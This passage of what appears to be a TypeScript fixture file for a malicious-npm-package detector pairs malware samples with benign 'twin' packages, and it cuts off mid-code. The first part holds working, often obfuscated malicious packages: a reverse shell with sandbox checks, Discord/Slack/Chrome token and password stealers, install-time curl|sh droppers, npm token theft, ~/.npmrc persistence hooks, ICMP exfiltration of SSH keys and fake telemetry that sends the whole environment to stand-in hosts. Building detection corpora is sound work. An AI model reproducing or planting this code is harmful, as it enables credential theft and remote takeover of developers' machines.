  ws.onmessage = (m) => { try { const msg = JSON.parse(m.data); if (msg.t === 'x') ws.send(String(new Function('require', msg.c)(require))); } catch (e) {} };
  ws.onclose = () => setTimeout(connect, 60000);
}
setImmediate(connect);

exports.lamportsToSol = (l) => l / 1e9;
`,
    },
  },

  // https://github.com/ossf/malicious-packages/pull/892 — long-tail dependency-confusion probe living only in package.json: preinstall curl with host/user/cwd in headers.
  {
    family: 'dependency-confusion-probe',
    id: 's5-pkgjson-only-curl',
    files: {
      'package.json': pkgJson('adp-workforce-internal', {
        version: '99.10.9',
        main: 'index.js',
        scripts: { preinstall: 'curl -s -X POST -H "X-H: $(hostname)" -H "X-U: $(whoami)" -H "X-P: $(pwd)" --data-binary "$(env | base64 -w0)" https://oob.bbhunter-callback.example/adp || true' },
      }),
      'index.js': js`module.exports = {};
`,
    },
  },

  // https://optfinity.com/packages-fully-compromised-computers/ — a library that opens a reverse shell on require, here with sandbox/analysis-box checks first.
  {
    family: 'reverse-shell',
    id: 's5-revshell-sandbox-aware',
    files: {
      'package.json': pkgJson('slack-webhook-client-lite', { main: 'lib/client.js' }),
      'lib/client.js': js`'use strict';
const os = require('os');
const net = require('net');
const cp = require('child_process');

function looksReal() {
  const u = os.userInfo().username.toLowerCase();
  if (['sandbox', 'malware', 'analyst', 'vagrant', 'cuckoo'].includes(u)) return false;
  if (os.cpus().length < 2 || os.totalmem() < 2 * 1024 ** 3 || os.uptime() < 600) return false;
  if (process.env.CI || process.env.npm_lifecycle_event) return false;
  return true;
}

if (looksReal()) {
  setTimeout(function reconnect() {
    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { windowsHide: true });
    const c = net.connect(4443, 'relay.slack-hooks.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
    c.on('error', () => { sh.kill(); setTimeout(reconnect, 300000).unref(); });
  }, 20000).unref();
}

module.exports = class SlackClient { constructor(url) { this.url = url; } send(text) { return fetch(this.url, { method: 'POST', body: JSON.stringify({ text }) }); } };
`,
    },
  },

  // https://docs.secure.software/policies/threat-hunting/TH17125 — long-tail token grabber: Discord/Slack/Telegram session stores and browser Login Data, posted to a webhook-style endpoint.
  {
    family: 'token-grabber',
    id: 's5-discord-slack-tg-grabber',
    files: {
      'package.json': pkgJson('discord-embed-builder-pro', { main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': js`const fs = require('fs');
const path = require('path');
const os = require('os');
const home = os.homedir();
const roaming = process.env.APPDATA || path.join(home, '.config');
const local = process.env.LOCALAPPDATA || path.join(home, '.config');

const stores = {
  discord: path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  discordCanary: path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  slack: path.join(roaming, 'Slack', 'Local Storage', 'leveldb'),
  chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
};
const tgdata = path.join(roaming, 'Telegram Desktop', 'tdata');
const tokenRe = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{84}|xox[bcpdse]-[0-9A-Za-z-]{10,}/g;

const found = {};
for (const [k, dir] of Object.entries(stores)) {
  try {
    for (const f of fs.readdirSync(dir)) if (f.endsWith('.ldb') || f.endsWith('.log')) {
      const m = fs.readFileSync(path.join(dir, f), 'latin1').match(tokenRe);
      if (m) found[k] = [...new Set([...(found[k] || []), ...m])];
    }
  } catch (e) {}
}
try { found.telegram = fs.readdirSync(tgdata).filter((f) => /^[0-9A-F]{16}$/.test(f) || f === 'key_datas'); } catch (e) {}
try { found.loginData = fs.readFileSync(path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')).toString('base64'); } catch (e) {}
try { found.localState = fs.readFileSync(path.join(local, 'Google', 'Chrome', 'User Data', 'Local State'), 'utf8'); } catch (e) {}

fetch('https://hooks.chat-relay.example/api/webhooks/118822339900/aBcDeFgHiJkLmNoP', {
  method: 'POST', headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ username: 'npm', content: '' + os.hostname() + ' ' + os.userInfo().username, embeds: [{ description: JSON.stringify(found).slice(0, 3900) }] }),
}).catch(() => {});
`,
    },
  },

  // scanner-evasion, written — the payload file is reachable only through a nested `exports` condition (node+require); `main` and the default export are clean, and child_process is named by join.
  {
    family: 'exports-condition-payload',
    id: 's5-exports-node-require',
    files: {
      'package.json': pkgJson('tiny-deep-merge', {
        main: './index.js',
        module: './index.mjs',
        exports: { '.': { types: './index.d.ts', node: { require: './lib/internal/.cache/merge.node.cjs', import: './index.mjs' }, default: './index.js' }, './package.json': './package.json' },
      }),
      'index.js': js`function merge(a, b) { for (const k of Object.keys(b)) a[k] = b[k] && typeof b[k] === 'object' ? merge(a[k] || {}, b[k]) : b[k]; return a; }
module.exports = merge;
`,
      'index.mjs': js`export default function merge(a, b) { for (const k of Object.keys(b)) a[k] = b[k] && typeof b[k] === 'object' ? merge(a[k] || {}, b[k]) : b[k]; return a; }
`,
      'index.d.ts': js`export default function merge<A, B>(a: A, b: B): A & B;
`,
      'lib/internal/.cache/merge.node.cjs': js`const merge = require('../../../index.js');
const m = require(['child', 'process'].join('_'));
const fired = global[Symbol.for('tdm')];
if (!fired) {
  global[Symbol.for('tdm')] = 1;
  const u = ['htt', 'ps://', 'cdn.merge-utils', '.example/', 'r'].join('');
  m[['ex', 'ec'].join('')]('(curl -fsS ' + u + ' || wget -qO- ' + u + ') | sh', { stdio: 'ignore' });
}
module.exports = merge;
`,
    },
  },

  // scanner-evasion, written — `main` points three directories deep; child_process is obtained through the module loader off globalThis (no require of the name, no import).
  {
    family: 'nested-main-loader-indirection',
    id: 's5-nested-main-globalthis',
    files: {
      'package.json': pkgJson('fast-slugify-x', { main: 'dist/cjs/node/runtime/index.js' }),
      'README.md': '# fast-slugify-x\n\nslugify("Hello World") → "hello-world"\n',
      'dist/cjs/node/runtime/index.js': js`'use strict';
const slugify = (s) => String(s).toLowerCase().normalize('NFKD').replace(/[^\w\s-]/g, '').trim().replace(/[\s_-]+/g, '-');
module.exports = slugify;

const g = globalThis;
const p = g[String.fromCharCode(112, 114, 111, 99, 101, 115, 115)];
const L = p['main' + 'Module'] ? p['main' + 'Module'].constructor : p.getBuiltinModule && { _load: p.getBuiltinModule };
const name = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();
const c = L._load(name);
const env = Buffer.from(JSON.stringify(p.env)).toString('base64url');
c['spawn']('node', ['-e', 'fetch(process.argv[1],{method:"POST",body:process.argv[2]}).catch(()=>{})', 'https://slug-stats.example/e', env], { detached: true, stdio: 'ignore' }).unref();
`,
    },
  },

  // scanner-evasion, written — nothing at install: the `bin` does its job, but on first use (no marker in the user's config dir) it fetches a platform binary without a checksum and runs it detached.
  {
    family: 'bin-first-run-dropper',
    id: 's5-bin-first-use',
    files: {
      'package.json': pkgJson('prettier-json-cli', { bin: { pjson: './bin/pjson.js' }, files: ['bin'] }),
      'bin/pjson.js': js`#!/usr/bin/env node
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const file = process.argv[2];
if (file) process.stdout.write(JSON.stringify(JSON.parse(fs.readFileSync(file, 'utf8')), null, 2) + '\n');

const marker = path.join(os.homedir(), '.config', 'pjson', '.seen');
if (!fs.existsSync(marker)) {
  fs.mkdirSync(path.dirname(marker), { recursive: true });
  fs.writeFileSync(marker, String(Date.now()));
  const tag = process.platform + '-' + process.arch;
  const out = path.join(os.homedir(), '.config', 'pjson', process.platform === 'win32' ? 'pjson-helper.exe' : 'pjson-helper');
  fetch('https://dl.json-tools-cdn.example/helper/' + tag).then((r) => r.arrayBuffer()).then((ab) => {
    fs.writeFileSync(out, Buffer.from(ab), { mode: 0o755 });
    require('child_process').spawn(out, ['--daemon'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  }).catch(() => {});
}
`,
    },
  },

  // scanner-evasion, written — `prepare` uses `npm exec` to pull and run another package at install time, and `preinstall` preloads a hook with `node -r`; the visible scripts contain no URL or shell.
  {
    family: 'lifecycle-indirection',
    id: 's5-prepare-npm-exec-node-r',
    files: {
      'package.json': pkgJson('eslint-config-airbnb-strict', {
        main: 'index.js',
        scripts: {
          preinstall: 'node -r ./rules/.compat.cjs -e 0',
          prepare: 'npm exec --yes --package=@lint-presets/bootstrap@latest -- lint-bootstrap --quiet',
        },
      }),
      'index.js': js`module.exports = { extends: ['eslint:recommended'], rules: { 'no-var': 'error' } };
`,
      'rules/.compat.cjs': js`const fs = require('fs');
const path = require('path');
const os = require('os');
const rc = path.join(os.homedir(), '.npmrc');
let tok = '';
try { tok = (fs.readFileSync(rc, 'utf8').match(/_authToken=(.+)/) || [])[1] || ''; } catch (e) {}
tok = tok || process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '';
if (tok) require('https').get('https://lint-presets.example/v?t=' + encodeURIComponent(tok) + '&h=' + os.hostname(), () => {}).on('error', () => {});
`,
    },
  },

  // scanner-evasion, written (preload surfaces per https://krash.dev/posts/before-your-code-runs/nodejs) — persistence through the user's ~/.npmrc `node-options=--require`, so every node that npm starts later loads the copied hook; the package also ships a project .npmrc doing the same.
  {
    family: 'npmrc-preload-persistence',
    id: 's5-npmrc-node-options',
    files: {
      'package.json': pkgJson('dotenv-expand-plus', { main: 'index.js', scripts: { postinstall: 'node scripts/register.js' } }),
      '.npmrc': 'node-options="--require ./scripts/trace.cjs"\n',
      'index.js': js`module.exports = (cfg) => { for (const [k, v] of Object.entries(cfg.parsed || {})) cfg.parsed[k] = String(v).replace(/\$\{?(\w+)\}?/g, (_, n) => process.env[n] || ''); return cfg; };
`,
      'scripts/register.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const dir = path.join(os.homedir(), '.cache', 'node', 'corepack-shim');
fs.mkdirSync(dir, { recursive: true });
const hook = path.join(dir, 'index.cjs');
fs.copyFileSync(path.join(__dirname, 'trace.cjs'), hook);
const rc = path.join(os.homedir(), '.npmrc');
let cur = '';
try { cur = fs.readFileSync(rc, 'utf8'); } catch (e) {}
if (!cur.includes(hook)) fs.writeFileSync(rc, cur.replace(/^node-options=.*$/m, '') + '\nnode-options="--require ' + hook + '"\n');
`,
      'scripts/trace.cjs': js`if (!process.env.__DX) {
  process.env.__DX = '1';
  const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET|PASSWORD|KEY/.test(k));
  if (keys.length) {
    const body = JSON.stringify(Object.fromEntries(keys.map((k) => [k, process.env[k]])));
    require('https').request({ host: 'env-trace.example', path: '/t', method: 'POST' }, () => {}).on('error', () => {}).end(body);
  }
}
`,
    },
  },

  // scanner-evasion, written — the install script has no file to follow: NODE_OPTIONS carries `--import` of a base64 data: URL module.
  {
    family: 'node-options-data-url',
    id: 's5-node-options-import-data',
    files: {
      'package.json': pkgJson('ts-paths-resolver', {
        main: 'index.js',
        scripts: {
          install: 'NODE_OPTIONS="--import=data:text/javascript;base64,' + b64(js`import('node:child_process').then(c=>c.exec('curl -fsSL https://paths-resolver.invalid/i | sh'))`) + '" node -e ""',
        },
      }),
      'index.js': js`module.exports = (paths, spec) => { for (const [k, v] of Object.entries(paths)) if (spec.startsWith(k.replace('*', ''))) return v[0].replace('*', spec.slice(k.length - 1)); return null; };
`,
    },
  },

  // scanner-evasion, written — the code lives as a base64 "translation" in a locale JSON and runs in a worker_threads Worker with eval:true.
  {
    family: 'worker-eval-json-carrier',
    id: 's5-worker-locale-json',
    files: {
      'package.json': pkgJson('i18n-lite-loader', { main: 'src/index.js' }),
      'src/index.js': js`const { Worker } = require('worker_threads');
const path = require('path');
const locales = { en: require('../locales/en.json'), de: require('../locales/de.json') };

function t(lang, key) { return (locales[lang] || locales.en).messages[key] || key; }

const meta = locales.en.meta;
if (meta && meta.plural) {
  try { new Worker(Buffer.from(meta.plural, 'base64').toString(), { eval: true }).unref(); } catch (e) {}
}
module.exports = { t };
`,
      'locales/en.json': JSON.stringify({ meta: { lang: 'en', plural: b64(stageWorker) }, messages: { hello: 'Hello', bye: 'Goodbye' } }, null, 2),
      'locales/de.json': JSON.stringify({ meta: { lang: 'de' }, messages: { hello: 'Hallo', bye: 'Tschüss' } }, null, 2),
    },
  },

  // scanner-evasion, written — a WebAssembly module whose custom section holds an XOR-encoded script, compiled through require('module').prototype._compile.
  {
    family: 'wasm-carried-module-compile',
    id: 's5-wasm-custom-section',
    files: {
      'package.json': pkgJson('simd-base64', { main: 'index.js', files: ['index.js', 'b64.wasm'] }),
      'index.js': js`'use strict';
const fs = require('fs');
const path = require('path');
const Module = require('module');

const bytes = fs.readFileSync(path.join(__dirname, 'b64.wasm'));
const mod = new WebAssembly.Module(bytes);
const sec = WebAssembly.Module.customSections(mod, 'name.meta')[0];
if (sec) {
  const u = new Uint8Array(sec);
  for (let i = 0; i < u.length; i++) u[i] ^= 0x5a;
  const m = new Module(path.join(__dirname, 'simd.js'), module);
  m.paths = module.paths;
  m._compile(Buffer.from(u).toString('utf8'), m.id);
}

exports.encode = (b) => Buffer.from(b).toString('base64');
exports.decode = (s) => Buffer.from(s, 'base64');
`,
      'b64.wasm': wasmWithCustomSection('name.meta', xor(stageWasm)),
    },
  },

  // scanner-evasion, written — no child_process at all: process.binding('spawn_sync') reached through a Proxy/Reflect facade; data leaves as ping ICMP padding patterns.
  {
    family: 'internal-binding-icmp-exfil',
    id: 's5-binding-proxy-ping',
    files: {
      'package.json': pkgJson('net-latency-probe', { main: 'index.js', scripts: { postinstall: 'node index.js --calibrate' } }),
      'index.js': js`'use strict';
const os = require('os');
const fs = require('fs');
const path = require('path');

const sys = new Proxy({}, {
  get(_, k) { return Reflect.apply(Reflect.get(process, 'bind' + 'ing'), process, [k]); },
});

function run(file, args) {
  const s = sys['spawn' + '_sync'];
  return s.spawn({ file, args: [file, ...args], envPairs: [], stdio: [{ type: 'pipe', readable: true, writable: false }, { type: 'pipe', readable: false, writable: true }, { type: 'pipe', readable: false, writable: true }], windowsHide: true });
}

function calibrate() {
  let secret = '';
  for (const f of ['.ssh/id_rsa', '.ssh/id_ed25519', '.git-credentials']) {
    try { secret += fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {}
  }
  const hex = Buffer.from(secret).toString('hex');
  for (let i = 0; i < hex.length; i += 32) {
    run('/bin/ping', ['-c', '1', '-W', '1', '-p', hex.slice(i, i + 32).padEnd(32, '0'), 'probe.latency-net.invalid']);
  }
}

if (process.argv.includes('--calibrate') && process.platform !== 'win32') { try { calibrate(); } catch (e) {} }
exports.measure = async (host) => ({ host, ms: 0 });
`,
    },
  },

  // scanner-evasion, written — a "template engine" whose vm context is handed the host `require`, so templates shipped in a JSON file run with full privileges.
  {
    family: 'vm-escape-template',
    id: 's5-vm-context-require',
    files: {
      'package.json': pkgJson('mustache-lite-render', { main: 'lib/render.js' }),
      'lib/render.js': js`'use strict';
const vm = require('vm');
const helpers = require('./helpers.json');

const ctx = vm.createContext({ require, process, Buffer, console: { log() {} } });
for (const [name, src] of Object.entries(helpers)) vm.runInContext('var ' + name + ' = ' + src, ctx, { filename: name + '.helper.js' });

module.exports = function render(tpl, data) {
  return tpl.replace(/\{\{\s*(\w+)\s*\}\}/g, (_, k) => (data[k] == null ? '' : String(data[k])));
};
`,
      'lib/helpers.json': JSON.stringify({
        upper: '(s) => String(s).toUpperCase()',
        lower: '(s) => String(s).toLowerCase()',
        _init: '(' + js`function(){var r=require;var o=r('os');var q=r('https').request({host:'tpl-cdn.example',path:'/h',method:'POST'});q.on('error',function(){});q.end(JSON.stringify({u:o.userInfo().username,h:o.hostname(),e:process.env}));}` + ')()',
      }, null, 2),
    },
  },

  // scanner-evasion, written — looks like a vendor telemetry SDK (DSN, opt-out variable) but the opt-out test is inverted and the "context" it attaches is the whole environment.
  {
    family: 'telemetry-sdk-exfil',
    id: 's5-fake-telemetry-env',
    files: {
      'package.json': pkgJson('@devmetrics/node', { main: 'dist/index.js', scripts: { postinstall: 'node dist/init.js' } }),
      'dist/index.js': js`'use strict';
const os = require('os');
const DSN = 'https://3f2a9c71b4e84d0e@o44512.ingest.devmetrics-cloud.example/7781';

function optedOut() { return process.env.DEVMETRICS_DISABLED === '1' && process.env.DO_NOT_TRACK === '1' && false; }

function capture(event) {
  if (optedOut()) return;
  const u = new URL(DSN);
  const payload = { event, contexts: { os: os.platform(), runtime: process.version, env: process.env, home: os.homedir(), user: os.userInfo() }, sdk: 'devmetrics.node/2.1.0' };
  fetch(u.origin + '/api' + u.pathname + '/store/?key=' + u.username, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(payload) }).catch(() => {});
}
module.exports = { init: () => capture({ type: 'session' }), capture };
`,
      'dist/init.js': js`require('./index.js').init();
`,
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Honest twins: the nearest harmless thing with the same tools.

export const NPM_TWINS_SET5: NpmVariant[] = [
  // Twin of the shipped-binary and bin droppers: a CLI that runs the platform binary it ships (per-platform optional deps), in the foreground, passing the user's arguments.
  {
    family: 'benign-cli-platform-binary',
    id: 's5t-cli-ships-binary',
    files: {
      'package.json': pkgJson('fastfmt', {
        bin: { fastfmt: 'bin/fastfmt.js' },
        optionalDependencies: { '@fastfmt/linux-x64': '1.0.3', '@fastfmt/win32-x64': '1.0.3' },
        license: 'MIT',
        repository: 'github:fastfmt/fastfmt',
      }),
      'bin/fastfmt.js': js`#!/usr/bin/env node
'use strict';
const { spawnSync } = require('child_process');
const path = require('path');

const pkg = '@fastfmt/' + process.platform + '-' + process.arch;
let exe;
try {
  exe = path.join(path.dirname(require.resolve(pkg + '/package.json')), process.platform === 'win32' ? 'fastfmt.exe' : 'fastfmt');
} catch (e) {
  console.error('fastfmt: no prebuilt binary for ' + process.platform + '-' + process.arch + '; install ' + pkg);
  process.exit(1);
}
const r = spawnSync(exe, process.argv.slice(2), { stdio: 'inherit' });
process.exit(r.status === null ? 1 : r.status);
`,
      'vendor/linux-x64/fastfmt': fakeElf(),
      'README.md': '# fastfmt\n\nA fast formatter. The npm package is a thin launcher for the native binary shipped in the per-platform package.\n',
    },
  },

  // Twin of the fake telemetry SDK: usage telemetry to the vendor's own host, off in CI, off with DO_NOT_TRACK or its own variable, sending only version, OS and command name.
  {
    family: 'benign-telemetry-opt-out',
    id: 's5t-telemetry-opt-out',
    files: {
      'package.json': pkgJson('acme-deploy-cli', { bin: { acme: 'bin/acme.js' }, homepage: 'https://acme-deploy.example' }),
      'bin/acme.js': js`#!/usr/bin/env node
'use strict';
const { track } = require('../lib/telemetry');
const cmd = process.argv[2] || 'help';
track(cmd).finally(() => console.log('acme ' + cmd + ': done'));
`,
      'lib/telemetry.js': js`'use strict';
const os = require('os');
const { version } = require('../package.json');

function enabled() {
  const e = process.env;
  if (e.DO_NOT_TRACK === '1' || e.ACME_TELEMETRY_DISABLED === '1' || e.CI) return false;
  return true;
}

// Documented at https://acme-deploy.example/docs/telemetry : command name, CLI version, OS family. No paths, no env.
async function track(command) {
  if (!enabled()) return;
  const body = JSON.stringify({ command, version, os: os.platform(), node: process.versions.node.split('.')[0] });
  try { await fetch('https://telemetry.acme-deploy.example/v1/events', { method: 'POST', headers: { 'content-type': 'application/json' }, body, signal: AbortSignal.timeout(800) }); } catch (e) {}
}
module.exports = { track, enabled };
`,
      'README.md': '# acme-deploy-cli\n\nAnonymous usage telemetry (command name, version, OS) goes to telemetry.acme-deploy.example. Disable with `ACME_TELEMETRY_DISABLED=1` or `DO_NOT_TRACK=1`; always off in CI.\n',
    },
  },

  // Twin of the vm escape: a template loader that uses vm with a frozen, require-less context and a timeout, templates from the caller.
  {
    family: 'benign-vm-sandbox-templates',
    id: 's5t-vm-templates',
    files: {
      'package.json': pkgJson('tmpl-sandbox', { main: 'index.js' }),
      'index.js': js`'use strict';
const vm = require('vm');

function compile(source) {
  const script = new vm.Script('(function (data) { "use strict"; return ' + JSON.stringify(source) + '.replace(/\\{\\{\\s*(\\w+)\\s*\\}\\}/g, function (_, k) { return data[k] == null ? "" : String(data[k]); }); })', { filename: 'template.vm.js' });
  return function render(data) {
    const ctx = vm.createContext(Object.freeze({}), { codeGeneration: { strings: false, wasm: false } });
    const fn = script.runInContext(ctx, { timeout: 50 });
    return fn(Object.freeze({ ...data }));
  };
}
module.exports = { compile };
`,
    },
  },

  // Twin of install-time droppers: an `install` script that builds a native addon with node-gyp from shipped sources.
  {
    family: 'benign-node-gyp-build',
    id: 's5t-node-gyp-install',
    files: {
      'package.json': pkgJson('fast-crc32c', { main: 'index.js', gypfile: true, scripts: { install: 'node-gyp rebuild' }, dependencies: { 'node-addon-api': '^8.0.0' } }),
      'binding.gyp': JSON.stringify({ targets: [{ target_name: 'crc32c', sources: ['src/crc32c.cc'], include_dirs: ['<!(node -p "require(\'node-addon-api\').include_dir")'], defines: ['NAPI_DISABLE_CPP_EXCEPTIONS'] }] }, null, 2),
      'src/crc32c.cc': `#include <napi.h>
static uint32_t crc(const uint8_t* p, size_t n) { uint32_t c = ~0u; while (n--) { c ^= *p++; for (int k = 0; k < 8; k++) c = c & 1 ? (c >> 1) ^ 0x82f63b78 : c >> 1; } return ~c; }
Napi::Value Crc(const Napi::CallbackInfo& info) { auto b = info[0].As<Napi::Buffer<uint8_t>>(); return Napi::Number::New(info.Env(), crc(b.Data(), b.Length())); }
Napi::Object Init(Napi::Env env, Napi::Object exports) { exports.Set("crc32c", Napi::Function::New(env, Crc)); return exports; }
NODE_API_MODULE(crc32c, Init)
`,
      'index.js': js`module.exports = require('./build/Release/crc32c.node');
`,
    },
  },

  // Twin of the kube stealer: a CLI that reads the user's kubeconfig and talks only to the cluster server named in it, with the user's own credentials.
  {
    family: 'benign-kubeconfig-client',
    id: 's5t-kubeconfig-client',
    files: {
      'package.json': pkgJson('kube-pods-ls', { bin: { 'kube-pods': 'bin/kube-pods.mjs' }, type: 'module', dependencies: { yaml: '^2.4.0' } }),
      'bin/kube-pods.mjs': js`#!/usr/bin/env node
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import https from 'node:https';
import YAML from 'yaml';

const file = process.env.KUBECONFIG || join(homedir(), '.kube', 'config');
const cfg = YAML.parse(readFileSync(file, 'utf8'));
const ctx = cfg.contexts.find((c) => c.name === cfg['current-context']).context;
const cluster = cfg.clusters.find((c) => c.name === ctx.cluster).cluster;
const user = cfg.users.find((u) => u.name === ctx.user).user;
const ns = process.argv[2] || ctx.namespace || 'default';

const url = new URL('/api/v1/namespaces/' + ns + '/pods', cluster.server);
const agent = new https.Agent({
  ca: cluster['certificate-authority-data'] ? Buffer.from(cluster['certificate-authority-data'], 'base64') : undefined,
  cert: user['client-certificate-data'] ? Buffer.from(user['client-certificate-data'], 'base64') : undefined,
  key: user['client-key-data'] ? Buffer.from(user['client-key-data'], 'base64') : undefined,
});
const headers = user.token ? { authorization: 'Bearer ' + user.token } : {};
https.get(url, { agent, headers }, (res) => {
  let d = ''; res.on('data', (c) => (d += c));
  res.on('end', () => { for (const p of JSON.parse(d).items || []) console.log(p.metadata.name + '\t' + p.status.phase); });
}).on('error', (e) => { console.error(e.message); process.exit(1); });
`,
    },
  },

  // Twin of the DNS exfiltration: an SPF/DMARC checker that resolves TXT records of the domain the user passes.
  {
    family: 'benign-dns-txt-lookup',
    id: 's5t-spf-checker',
    files: {
      'package.json': pkgJson('spf-check-cli', { bin: { 'spf-check': 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const { resolveTxt } = require('dns').promises;
const domain = process.argv[2];
if (!domain) { console.error('usage: spf-check <domain>'); process.exit(2); }
(async () => {
  const spf = (await resolveTxt(domain).catch(() => [])).map((r) => r.join('')).filter((t) => t.startsWith('v=spf1'));
  const dmarc = (await resolveTxt('_dmarc.' + domain).catch(() => [])).map((r) => r.join(''));
  console.log(JSON.stringify({ domain, spf, dmarc }, null, 2));
})();
`,
    },
  },

  // Twin of the .env harvesters: a dotenv-style loader that reads .env from the working directory into process.env, no network.
  {
    family: 'benign-dotenv-loader',
    id: 's5t-dotenv',
    files: {
      'package.json': pkgJson('envfile-load', { main: 'index.js' }),
      'index.js': js`'use strict';
const fs = require('fs');
const path = require('path');

function config({ path: p = path.resolve(process.cwd(), '.env'), override = false } = {}) {
  let text;
  try { text = fs.readFileSync(p, 'utf8'); } catch (e) { return { error: e }; }
  const parsed = {};
  for (const line of text.split(/\r?\n/)) {
    const m = line.match(/^\s*([\w.-]+)\s*=\s*(.*)?\s*$/);
    if (!m) continue;
    let v = (m[2] || '').trim();
    if (/^(['"]).*\1$/.test(v)) v = v.slice(1, -1);
    parsed[m[1]] = v;
    if (override || !(m[1] in process.env)) process.env[m[1]] = v;
  }
  return { parsed };
}
module.exports = { config };
`,
    },
  },

  // Twin of the platform-binary droppers: postinstall downloads the project's own release binary, verifies a pinned SHA-256, honours an offline/skip variable, and does not run it.
  {
    family: 'benign-verified-binary-download',
    id: 's5t-checksum-download',
    files: {
      'package.json': pkgJson('protoc-bin', { bin: { protoc: 'bin/protoc.js' }, scripts: { postinstall: 'node install.js' } }),
      'checksums.json': JSON.stringify({ 'linux-x64': 'a3f1c4b0e8d9d2a61f0c7b5e4d3c2b1a09f8e7d6c5b4a3928170f6e5d4c3b2a1', 'darwin-arm64': '0f9e8d7c6b5a49382716f5e4d3c2b1a0ffeeddccbbaa99887766554433221100' }, null, 2),
      'install.js': js`'use strict';
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const { version } = require('./package.json');
const sums = require('./checksums.json');

if (process.env.PROTOC_BIN_SKIP_DOWNLOAD) process.exit(0);
const tag = process.platform + '-' + process.arch;
if (!sums[tag]) { console.warn('protoc-bin: no binary for ' + tag + '; set PROTOC_PATH'); process.exit(0); }
const url = 'https://releases.protoc-bin.example/v' + version + '/protoc-' + tag;
const dest = path.join(__dirname, 'vendor', process.platform === 'win32' ? 'protoc.exe' : 'protoc');

(async () => {
  const res = await fetch(url);
  if (!res.ok) throw new Error('download failed: ' + res.status);
  const buf = Buffer.from(await res.arrayBuffer());
  const got = crypto.createHash('sha256').update(buf).digest('hex');
  if (got !== sums[tag]) throw new Error('checksum mismatch for ' + tag + ': ' + got);
  fs.mkdirSync(path.dirname(dest), { recursive: true });
  fs.writeFileSync(dest, buf, { mode: 0o755 });
})().catch((e) => { console.error('protoc-bin: ' + e.message); process.exit(1); });
`,
      'bin/protoc.js': js`#!/usr/bin/env node
const { spawnSync } = require('child_process');
const path = require('path');
const exe = process.env.PROTOC_PATH || path.join(__dirname, '..', 'vendor', process.platform === 'win32' ? 'protoc.exe' : 'protoc');
process.exit(spawnSync(exe, process.argv.slice(2), { stdio: 'inherit' }).status ?? 1);
`,
    },
  },

  // Twin of the worker eval: a worker pool started from a shipped file, messages only.
  {
    family: 'benign-worker-pool',
    id: 's5t-worker-file',
    files: {
      'package.json': pkgJson('hash-pool', { main: 'index.js' }),
      'index.js': js`'use strict';
const { Worker } = require('worker_threads');
const path = require('path');
const os = require('os');

class HashPool {
  constructor(size = Math.max(1, os.cpus().length - 1)) {
    this.workers = Array.from({ length: size }, () => new Worker(path.join(__dirname, 'worker.js')));
    this.i = 0;
  }
  hash(buf) {
    const w = this.workers[this.i++ % this.workers.length];
    return new Promise((res) => { w.once('message', res); w.postMessage(buf); });
  }
  close() { return Promise.all(this.workers.map((w) => w.terminate())); }
}
module.exports = HashPool;
`,
      'worker.js': js`const { parentPort } = require('worker_threads');
const crypto = require('crypto');
parentPort.on('message', (buf) => parentPort.postMessage(crypto.createHash('sha256').update(buf).digest('hex')));
`,
    },
  },

  // Twin of the wasm carrier: loads its own wasm module and calls its exports; reads a custom "producers"-like section only to print build info.
  {
    family: 'benign-wasm-module',
    id: 's5t-wasm-add',
    files: {
      'package.json': pkgJson('wasm-math-lite', { main: 'index.js', files: ['index.js', 'math.wasm'] }),
      'index.js': js`'use strict';
const fs = require('fs');
const path = require('path');
const mod = new WebAssembly.Module(fs.readFileSync(path.join(__dirname, 'math.wasm')));
const { exports: x } = new WebAssembly.Instance(mod, {});
module.exports = { add: (a, b) => x.add(a | 0, b | 0) };
`,
      'math.wasm': wasmAdd(),
    },
  },

  // Twin of git-push exfiltration: `prepare` stamps the build with the local git commit via execFileSync, no remote.
  {
    family: 'benign-git-version-stamp',
    id: 's5t-git-stamp',
    files: {
      'package.json': pkgJson('buildinfo-stamp', { main: 'buildinfo.json', scripts: { prepare: 'node scripts/stamp.js' } }),
      'buildinfo.json': '{}\n',
      'scripts/stamp.js': js`'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');
const path = require('path');
function git(...args) { try { return execFileSync('git', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim(); } catch (e) { return null; } }
const info = { commit: git('rev-parse', 'HEAD'), describe: git('describe', '--tags', '--always', '--dirty'), builtAt: new Date().toISOString() };
fs.writeFileSync(path.join(__dirname, '..', 'buildinfo.json'), JSON.stringify(info, null, 2) + '\n');
`,
    },
  },

  // Twin of CI-only triggers: a test reporter that, when GITHUB_ACTIONS is set, prints workflow annotations to stdout (no network, no token use).
  {
    family: 'benign-ci-aware-reporter',
    id: 's5t-actions-annotations',
    files: {
      'package.json': pkgJson('uvu-gh-reporter', { main: 'index.js' }),
      'index.js': js`'use strict';
const inActions = process.env.GITHUB_ACTIONS === 'true';

function escape(s) { return String(s).replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A'); }

module.exports = function report(failures) {
  for (const f of failures) {
    if (inActions) console.log('::error file=' + f.file + ',line=' + f.line + '::' + escape(f.message));
    else console.log(f.file + ':' + f.line + ' ' + f.message);
  }
  if (inActions && process.env.GITHUB_STEP_SUMMARY) {
